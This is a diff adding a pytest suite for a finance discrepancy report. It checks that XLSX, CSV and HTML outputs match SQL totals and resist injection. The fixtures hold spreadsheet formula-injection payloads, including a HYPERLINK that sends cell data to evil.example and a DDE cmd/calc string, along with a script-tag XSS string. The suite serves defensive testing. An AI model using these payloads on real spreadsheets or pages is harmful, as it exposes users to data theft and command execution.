@@ -1,0 +1,301 @@
+"""The finance report: numbers equal SQL over the warehouse, formula injection stays text, HTML
+is self-contained and renders in headless Chromium."""
+
+from __future__ import annotations
+
+import csv
+import datetime as dt
+import doctest
+import pathlib
+import re
+import shutil
+import subprocess
+import xml.etree.ElementTree as ET
+import zipfile
+
+import polars as pl
+import pytest
+
+from pipelines import report
+from pipelines.report import DETAIL_COLUMNS, neutralize
+from tests.conftest import RUN_DATE, WORLD, warehouse
+from tests.test_warehouse import D3, three_day_runs
+
+HYPERLINK = '=HYPERLINK("http://evil.example/steal?d="&A1,"Click for details")'
+INJECTED = {  # sku -> description written into a copy of the items master
+    "SKU000016": HYPERLINK,
+    "SKU000013": "<script>alert(1)</script> & co",
+    "SKU000026": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "SKU000033": "\t=1+1",
+    "SKU000019": "-2+3",
+}
+NS = {"m": "http://schemas.openxmlformats.org/spreadsheetml/2006/main", "r": "http://schemas.openxmlformats.org/officeDocument/2006/relationships"}
+
+
+# ----------------------------------------------------------------------------- pure parts
+
+
+@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx", "＝1", HYPERLINK])
+def test_neutralize_prefixes_formula_starts(text):
+    assert neutralize(text) == "'" + text
+
+
+@pytest.mark.parametrize("text", ["SKU-1", "DC01", "a=b", " =1", "", None, "'=already"])
+def test_neutralize_leaves_other_text_alone(text):
+    assert neutralize(text) == text
+
+
+def test_doc_examples():
+    assert doctest.testmod(report).failed == 0
+
+
+def test_line_chart_scales_into_the_plot():
+    g = report.line_chart(["a", "b", "c"], [("s", [1.0, 0.5, None])], width=200, height=100, lo=0.0, hi=1.0)
+    (s,) = g["series"]
+    assert [(d["x"], d["y"]) for d in s["dots"]] == [(48.0, 12.0), (116.0, 38.0)]
+    assert report._ira_floor([0.973, 0.99]) == 0.96 and report._ira_floor([0.5]) == 0.2 and report._ira_floor([None]) == 0.96
+
+
+# ----------------------------------------------------------------------------- the committed run
+
+
+def _xlsx(path: pathlib.Path) -> dict[str, dict]:
+    """Read an .xlsx with the standard library: sheet -> {"xml", "cells": {ref: (type, value)}, "rows"}."""
+    z = zipfile.ZipFile(path)
+    shared = []
+    if "xl/sharedStrings.xml" in z.namelist():
+        for si in ET.fromstring(z.read("xl/sharedStrings.xml")).findall("m:si", NS):
+            shared.append("".join(t.text or "" for t in si.iter(f"{{{NS['m']}}}t")))
+    rels = {r.get("Id"): r.get("Target") for r in ET.fromstring(z.read("xl/_rels/workbook.xml.rels"))}
+    out = {}
+    for sheet in ET.fromstring(z.read("xl/workbook.xml")).find("m:sheets", NS):
+        target = rels[sheet.get(f"{{{NS['r']}}}id")]
+        xml = z.read(f"xl/{target}").decode()
+        cells, rows = {}, {}
+        for c in ET.fromstring(xml).iter(f"{{{NS['m']}}}c"):
+            ref, kind, v = c.get("r"), c.get("t", "n"), c.find("m:v", NS)
+            if kind == "s":
+                value = shared[int(v.text)]
+            elif kind == "inlineStr":
+                value = "".join(t.text or "" for t in c.iter(f"{{{NS['m']}}}t"))
+            else:
+                value = float(v.text) if v is not None else None
+            cells[ref] = (kind, value)
+            col, row = re.match(r"([A-Z]+)(\d+)", ref).groups()
+            rows.setdefault(int(row), {})[col] = value
+        width = max((len(r) for r in rows.values()), default=0)
+        letters = [chr(65 + i) if i < 26 else "A" + chr(65 + i - 26) for i in range(max(width, 26) + 26)]
+        table = [[rows[r].get(letters[i]) for i in range(max(len(rows[r]) for r in rows) if rows else 0)] for r in sorted(rows)]
+        out[sheet.get("name")] = {"xml": xml, "cells": cells, "rows": table}
+    out["_styles"] = {"xml": z.read("xl/styles.xml").decode()}
+    return out
+
+
+def _run_report(config: pathlib.Path, run_date: str, output: pathlib.Path, dest: pathlib.Path, *extra: str) -> int:
+    return report.main(["--config", str(config), "--run-date", run_date, "--output", str(output), "--report-dir", str(dest), *extra])
+
+
+@pytest.fixture(scope="module")
+def injected(committed_run, tmp_path_factory) -> dict:
+    """The committed run reported with an items master whose descriptions attack a spreadsheet."""
+    world = tmp_path_factory.mktemp("injected") / "world"
+    shutil.copytree(WORLD, world, ignore=shutil.ignore_patterns("out", "inputs"))
+    items = pl.read_csv(world / "master" / "items.csv", infer_schema=False)
+    items = items.with_columns(pl.Series("description", [INJECTED.get(s, d) for s, d in zip(items["sku"], items["description"])]))
+    items.write_csv(world / "master" / "items.csv")
+    dest = world.parent / "report"
+    assert _run_report(world / "config.yaml", RUN_DATE, committed_run, dest) == 0
+    return {
+        "html": (dest / f"discrepancy_report_{RUN_DATE}.html").read_text(),
+        "xlsx": _xlsx(dest / f"discrepancy_report_{RUN_DATE}.xlsx"),
+        "csv": list(csv.reader((dest / f"discrepancies_{RUN_DATE}.csv").open(newline=""))),
+        "dir": dest,
+        "con": warehouse(committed_run),
+    }
+
+
+def _sql_totals(con) -> dict:
+    gross, net, ugross, unet, n = con.execute("""
+        SELECT round(sum(abs(value_delta)), 2), round(sum(value_delta), 2),
+               round(sum(abs(value_delta)) FILTER (WHERE class IN ('missing_in_other', 'missing_in_record', 'qty_mismatch')), 2),
+               round(sum(value_delta) FILTER (WHERE class IN ('missing_in_other', 'missing_in_record', 'qty_mismatch')), 2),
+               count(*)
+        FROM discrepancies WHERE snapshot_date = DATE '2026-11-30' AND class <> 'oversell_risk'""").fetchall()[0]
+    return {"gross": gross, "net": net, "ugross": ugross, "unet": unet, "rows": n}
+
+
+def _summary(book: dict) -> dict:
+    return {r[0]: r[1] for r in book["Summary"]["rows"] if r and isinstance(r[0], str) and len(r) > 1}
+
+
+def test_xlsx_summary_equals_sql(injected):
+    con = injected["con"]
+    want = _sql_totals(con)
+    got = _summary(injected["xlsx"])
+    assert got["Value at stake, gross Σ|value| (USD)"] == pytest.approx(want["gross"], abs=1e-9)
+    assert got["Value at stake, net Σ value (USD)"] == pytest.approx(want["net"], abs=1e-9)
+    assert got["Unexplained value, gross (USD)"] == pytest.approx(want["ugross"], abs=1e-9)
+    assert got["Unexplained value, net (USD)"] == pytest.approx(want["unet"], abs=1e-9)
+    assert got["Discrepancies (excl. oversell risk)"] == want["rows"]
+    keys, exact, tol = con.execute("""
+        SELECT count(*),
+               count(*) FILTER (WHERE NOT EXISTS (SELECT 1 FROM discrepancies d WHERE d.sku = s.sku AND d.location = s.location
+                                                  AND d.class NOT IN ('oversell_risk', 'in_transit') AND d.delta <> 0)),
+               count(*) FILTER (WHERE NOT EXISTS (SELECT 1 FROM discrepancies d WHERE d.sku = s.sku AND d.location = s.location
+                                                  AND d.class IN ('missing_in_other', 'missing_in_record', 'qty_mismatch')))
+        FROM inventory_snapshot s""").fetchall()[0]
+    assert got["IRA strict"] == round(exact / keys, 4) and got["IRA within tolerance"] == round(tol / keys, 4)
+    assert got["Alerts fired"] == con.execute("SELECT count(*) FROM alerts").fetchall()[0][0] == 2
+    assert got["Oversell risk units"] == con.execute("SELECT sum(delta) FROM discrepancies WHERE class = 'oversell_risk'").fetchall()[0][0]
+
+
+def test_xlsx_detail_has_numbers_filters_frozen_header_and_currency(injected):
+    book = injected["xlsx"]
+    detail = book["Detail"]
+    header, *rows = detail["rows"]
+    assert header == [h for _, h, _ in DETAIL_COLUMNS]
+    con = injected["con"]
+    assert len(rows) == con.execute("SELECT count(*) FROM discrepancies").fetchall()[0][0]
+    col = {name: i for i, (name, _, _) in enumerate(DETAIL_COLUMNS)}
+    assert sum(r[col["value_delta"]] or 0 for r in rows) == pytest.approx(con.execute("SELECT sum(value_delta) FROM discrepancies").fetchall()[0][0], abs=1e-6)
+    assert sum(r[col["delta"]] for r in rows) == con.execute("SELECT sum(delta) FROM discrepancies").fetchall()[0][0]
+    kinds = {ref: k for ref, (k, _) in detail["cells"].items()}
+    assert kinds["K2"] == "n" and kinds["R2"] == "n" and kinds["B2"] == "s"  # record_qty, value_delta, sku
+    assert '<autoFilter ref="A1:' in detail["xml"]
+    assert re.search(r'<pane ySplit="1" topLeftCell="A2" activePane="bottomLeft" state="frozen"/>', detail["xml"])
+    assert '"$"#,##0.00' in book["_styles"]["xml"].replace("&quot;", '"')
+    for name in ("By location", "By location and class", "Accuracy", "Alerts"):
+        assert "<autoFilter" in book[name]["xml"] and 'state="frozen"' in book[name]["xml"], name
+    assert set(book) - {"_styles"} == {"Summary", "Detail", "By location", "By location and class", "Accuracy", "Alerts"}
+
+
+def test_by_location_sheet_equals_value_variance(injected):
+    header, *rows = injected["xlsx"]["By location"]["rows"]
+    got = {r[0]: (r[header.index("Gross value")], r[header.index("Net value")], r[header.index("Unexplained gross value")]) for r in rows}
+    want = {loc: (g, n, u) for loc, g, n, u in injected["con"].execute(
+        "SELECT location, gross_value, net_value, unexplained_gross_value FROM value_variance").fetchall()}
+    assert {k: v for k, v in got.items() if k in want} == want
+    assert all(v == (0, 0, 0) for k, v in got.items() if k not in want)
+
+
+def test_injected_descriptions_stay_text_in_xlsx(injected):
+    book = injected["xlsx"]
+    for name, sheet in book.items():
+        assert "<f>" not in sheet["xml"] and "<f " not in sheet["xml"], f"a formula in {name}"
+    header, *rows = book["Detail"]["rows"]
+    desc = {r[1]: r[2] for r in rows}
+    assert desc["SKU000016"] == "'" + HYPERLINK
+    assert desc["SKU000026"] == "'" + INJECTED["SKU000026"]
+    assert desc["SKU000033"] == "'\t=1+1"
+    assert desc["SKU000019"] == "'-2+3"
+    assert desc["SKU000013"] == INJECTED["SKU000013"]  # not a formula start: as it is
+    refs = [ref for ref, (kind, value) in book["Detail"]["cells"].items() if value == "'" + HYPERLINK]
+    assert refs and all(book["Detail"]["cells"][r][0] == "s" for r in refs)
+
+
+def test_injected_descriptions_are_neutralized_in_csv_and_numbers_match(injected):
+    header, *rows = injected["csv"]
+    assert header == [name for name, _, _ in DETAIL_COLUMNS]
+    col = {name: i for i, name in enumerate(header)}
+    desc = {r[col["sku"]]: r[col["description"]] for r in rows}
+    assert desc["SKU000016"] == "'" + HYPERLINK and desc["SKU000033"] == "'\t=1+1" and desc["SKU000019"] == "'-2+3"
+    text_cols = [i for i, (_, _, kind) in enumerate(DETAIL_COLUMNS) if kind == "text"]
+    for r in rows:
+        for i in text_cols:
+            assert not r[i].startswith(("=", "+", "-", "@", "\t", "\r")), r[i]
+    con = injected["con"]
+    assert sum(float(r[col["value_delta"]] or 0) for r in rows) == pytest.approx(con.execute("SELECT sum(value_delta) FROM discrepancies").fetchall()[0][0], abs=1e-6)
+    assert sum(int(r[col["delta"]]) for r in rows) == con.execute("SELECT sum(delta) FROM discrepancies").fetchall()[0][0]
+
+
+def test_html_is_escaped_self_contained_and_shows_the_sql_numbers(injected):
+    html = injected["html"]
+    assert "&lt;script&gt;alert(1)&lt;/script&gt; &amp; co" in html
+    lowered = html.lower()
+    for banned in ("<script", "<link", "<img", "<iframe", " src=", " href=", "url(", "@import"):
+        assert banned not in lowered, banned
+    want = _sql_totals(injected["con"])
+    assert f"USD {want['gross']:,.2f}" in html and f"USD {want['net']:,.2f}" in html and f"USD {want['ugross']:,.2f}" in html
+    top = injected["con"].execute("""
+        SELECT sku, value_delta, record_lineage FROM discrepancies
+        WHERE class <> 'oversell_risk' AND delta <> 0 ORDER BY abs(value_delta) DESC LIMIT 20""").fetchall()
+    section = html[html.index('id="top"'):html.index('id="aging"')]
+    assert section.count("<tr>") == len(top) + 1
+    positions = [section.index(f"<td>{sku}</td>") for sku, _, _ in top]
+    assert positions == sorted(positions)
+    for _, value, lineage in top:
+        assert f"{value:,.2f}" in section
+        if lineage:
+            path, locator = lineage.rsplit(":", 1)
+            assert f'title="{path}"' in section and locator in section
+    assert html.count("<svg") == 3
+
+
+def test_alerts_jsonl_written_beside_the_report(injected):
+    lines = (injected["dir"] / "alerts.jsonl").read_text().splitlines()
+    assert len(lines) == 2 and '"rule": "oversell_units_per_sku"' in lines[0]
+
+
+@pytest.fixture(scope="module")
+def screenshot(injected, tmp_path_factory) -> pathlib.Path:
+    browser = next((b for b in ("chromium", "chromium-browser", "google-chrome", "google-chrome-stable") if shutil.which(b)), None)
+    if browser is None:
+        pytest.skip("no headless Chromium on PATH (Debian: apt-get install chromium)")
+    tmp = tmp_path_factory.mktemp("chromium")
+    png = tmp / "report.png"
+    page = injected["dir"] / f"discrepancy_report_{RUN_DATE}.html"
+    proc = subprocess.run(
+        [shutil.which(browser), "--headless", "--no-sandbox", "--disable-gpu", "--disable-background-networking",
+         "--disable-component-update", "--no-first-run", "--disable-sync", f"--user-data-dir={tmp / 'profile'}",
+         f"--screenshot={png}", "--window-size=1280,2000", page.as_uri()],
+        capture_output=True, text=True, timeout=120,
+    )
+    assert proc.returncode == 0, proc.stderr[-2000:]
+    return png
+
+
+def test_html_renders_in_headless_chromium(screenshot):
+    data = screenshot.read_bytes()
+    assert data[:8] == b"\x89PNG\r\n\x1a\n"
+    width, height = int.from_bytes(data[16:20], "big"), int.from_bytes(data[20:24], "big")
+    assert (width, height) == (1280, 2000)
+    assert len(data) > 50_000  # a blank page compresses to a few kB
+
+
+# ----------------------------------------------------------------------------- several runs
+
+
+def test_report_over_three_runs_shows_the_accuracy_trend_and_ages(tmp_path_factory, tmp_path):
+    runs = three_day_runs(tmp_path_factory)
+    dest = tmp_path / "r"
+    assert _run_report(runs["world"] / "config.yaml", str(D3), runs["in_order"], dest, "--format", "html,xlsx") == 0
+    assert not (dest / f"discrepancies_{D3}.csv").exists()
+    book = _xlsx(dest / f"discrepancy_report_{D3}.xlsx")
+    header, *rows = book["Accuracy"]["rows"]
+    con = warehouse(runs["in_order"])
+    want = con.execute("""
+        SELECT sum(keys), round(sum(exact_keys) / sum(keys), 4), round(sum(within_tolerance_keys) / sum(keys), 4)
+        FROM inventory_record_accuracy GROUP BY snapshot_date ORDER BY snapshot_date""").fetchall()
+    assert [(r[1], r[4], r[5]) for r in rows] == want and len(want) == 3
+    assert [dt.date(1899, 12, 30) + dt.timedelta(days=r[0]) for r in rows] == [dt.date(2026, 11, 28), dt.date(2026, 11, 29), D3]
+    html = (dest / f"discrepancy_report_{D3}.html").read_text()
+    assert "last 3 runs" in html and html.count("<circle") == 6
+    oldest = html[html.index('id="aging"'):html.index('id="accuracy"')]
+    sku, loc = runs["keys"]["A"]
+    assert re.search(rf"<td>{sku}</td><td>{loc} · wms</td>.*?<td>2026-11-28</td><td class=\"num\">2</td>", oldest, re.S)
+
+
+def test_report_cli_errors(injected, committed_run, tmp_path, world_copy, capsys):
+    cfg = WORLD / "config.yaml"
+    assert _run_report(cfg, RUN_DATE, committed_run, tmp_path, "--format", "pdf") == 2
+    assert "--format 'pdf'" in capsys.readouterr().err
+    assert _run_report(cfg, "2026-13-01", committed_run, tmp_path) == 2
+    assert _run_report(cfg, "2026-12-25", committed_run, tmp_path) == 4
+    assert "no run for 2026-12-25" in capsys.readouterr().err
+    assert _run_report(cfg, RUN_DATE, tmp_path / "nowhere", tmp_path) == 4
+    assert "no warehouse" in capsys.readouterr().err
+    bad = world_copy / "config.yaml"
+    bad.write_text(bad.read_text().replace("oversell_units_per_sku: 5", "oversell_units_per_sku: lots"))
+    assert _run_report(bad, RUN_DATE, committed_run, tmp_path) == 2
+    assert "`alerts.oversell_units_per_sku` must be a number" in capsys.readouterr().err
+    assert report.main(["--config", str(cfg)]) == 2
